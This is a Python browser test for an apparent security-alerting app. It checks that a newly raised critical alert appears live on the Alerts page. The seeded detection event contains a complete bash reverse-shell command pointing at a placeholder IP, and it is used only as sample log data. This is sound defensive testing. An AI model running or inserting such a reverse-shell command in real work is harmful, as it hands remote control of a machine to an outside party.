"""The Alerts page shows an alert raised after it was opened, without a reload."""

from __future__ import annotations

from pathlib import Path

import pytest

from puffin.alert import service as alert_service
from puffin.alert.schemas import Detection, Level
from puffin.app import build_state
from puffin.auth import service as auth_service
from puffin.core.db import transaction
from puffin.core.settings import Settings

pytestmark = pytest.mark.browser
SCREENSHOT = Path("/tmp/puffin-alerts-live.png")


def test_a_new_alert_appears_live_on_the_alerts_page(page, live_server, sign_in):
    sign_in(page, live_server, "admin", live_server.admin_password)
    page.wait_for_url(f"{live_server.url}/")
    page.goto(f"{live_server.url}/alerts")
    page.locator("[data-live-status]").wait_for(state="visible")

    state = build_state(Settings(data_dir=live_server.data_dir, environment="test", tls=True))
    with transaction(state.session_factory) as session:
        org = auth_service.get_organisation_by_slug(session=session, slug="default")
        assert org is not None
        alert_service.raise_alert(
            session=session,
            organisation_id=org.id,
            detection=Detection(
                rule_id="r-live",
                rule_title="Reverse shell from auditd",
                level=Level.CRITICAL,
                event={"full_log": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
            ),
        )
    state.engine.dispose()

    row = page.locator("tr.fresh", has_text="Reverse shell from auditd")
    row.wait_for(timeout=10_000)
    assert row.locator(".badge").inner_text() == "critical"
    page.screenshot(path=str(SCREENSHOT), full_page=True)
    row.get_by_role("link").click()
    page.get_by_role("heading", name="Reverse shell from auditd").wait_for()
